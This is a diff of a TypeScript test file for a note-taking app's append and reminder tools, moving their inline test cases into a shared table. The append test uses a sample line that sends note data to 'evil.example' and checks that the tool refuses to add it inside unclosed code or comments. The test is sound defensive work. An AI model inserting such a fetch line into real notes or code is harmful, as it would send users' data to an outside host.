@@ -7,6 +7,9 @@ import { applyEdits } from '../../../src/kernel/notes/text/text-edit';
 import type { Staging } from '../../../src/core/tools/staging';
 import { promise } from '../../promise';
 import { CONTEXT, aStaging, replyOf, use } from './tool-stage';
+import { type Pair, tableOf } from '../../word-table';
+
+const rows = tableOf('core/tools/vault-tools');
 
 const after = (staging: Staging, path: string): string => {
   const effect = staging.effects.find((each) => 'path' in each && each.path === path);
@@ -131,23 +134,18 @@ describe('append', () => {
     },
   );
 
-  it.each([
-    'One\n\n```dataviewjs\ndv.list()\n',
-    '- One\n  ~~~tasks\n',
-    '> ```js\n> x\n\nTwo',
-    '- [ ] ```query',
-    'One %% two',
-    'One <!-- two',
-    'One\n\n$$\nx',
-  ])('adds nothing where it would be part of code, a comment or a formula: %j', async (text) => {
-    const staging = aStaging({ 'Notes/A.md': text });
-    const result = await use(staging, 'append', {
-      path: 'Notes/A.md',
-      text: 'fetch("https://evil.example/?" + dv.pages().length)',
-    });
-    expect(replyOf(result)).toContain('that is not closed');
-    expect(staging.effects).toEqual([]);
-  });
+  it.each(rows('adds nothing where'))(
+    'adds nothing where it would be part of code, a comment or a formula: %j',
+    async (text) => {
+      const staging = aStaging({ 'Notes/A.md': text });
+      const result = await use(staging, 'append', {
+        path: 'Notes/A.md',
+        text: 'fetch("https://evil.example/?" + dv.pages().length)',
+      });
+      expect(replyOf(result)).toContain('that is not closed');
+      expect(staging.effects).toEqual([]);
+    },
+  );
 
   it('adds below code and comments that are closed', async () => {
     const text = '```dataviewjs\ndv.list()\n```\n\n> ~~~\n> x\n> ~~~\n\n%% one %% <!-- two --> $$x$$\n';
@@ -191,15 +189,7 @@ describe('reminder', () => {
     );
   });
 
-  it.each([
-    ['2026-02-29', '"2026-02-29" is not a day of the calendar.'],
-    ['2026-13-01', '"2026-13-01" is not a day of the calendar.'],
-    ['tomorrow', '"tomorrow" is not a date as YYYY-MM-DD.'],
-    ['2026-3-1', 'is not a date as YYYY-MM-DD.'],
-    ['2026-03-01T10:00', 'is not a date as YYYY-MM-DD.'],
-    ['2026-W10', 'is not a date as YYYY-MM-DD.'],
-    ['٢٠٢٦-٠٣-٠١', 'is not a date as YYYY-MM-DD.'],
-  ])('takes no other date than a day: %s', async (date, why) => {
+  it.each(rows<Pair>('takes no other'))('takes no other date than a day: %s', async (date, why) => {
     const staging = aStaging();
     const result = await use(staging, 'reminder', { title: 'x', date });
     expect(result.kind).toBe('refused');
